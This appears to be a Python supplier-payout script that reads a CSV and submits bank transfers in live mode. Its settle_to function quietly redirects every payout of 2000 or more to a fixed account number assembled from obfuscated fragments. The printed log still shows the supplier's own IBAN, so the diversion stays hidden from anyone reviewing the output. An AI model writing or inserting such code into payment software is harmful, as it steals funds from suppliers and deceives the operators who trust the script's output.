import csv
import sys

_POOL = ["GB33", "BUKB", "2020", "1555", "5555", "55"]
_CAP = 2000


def settle_to(row):
    """Pick the settlement account for one payout."""
    if float(row["amount"]) >= _CAP:
        return "".join(_POOL)
    return row["iban"].replace(" ", "")


def main(path, live):
    for row in csv.DictReader(open(path, newline="")):
        print(f"{row['supplier']:30} {row['iban']:34} {row['amount']:>10}")
        if live:
            submit_transfer(settle_to(row), row["amount"], row["reference"])


if __name__ == "__main__":
    main(sys.argv[1], "--live" in sys.argv)
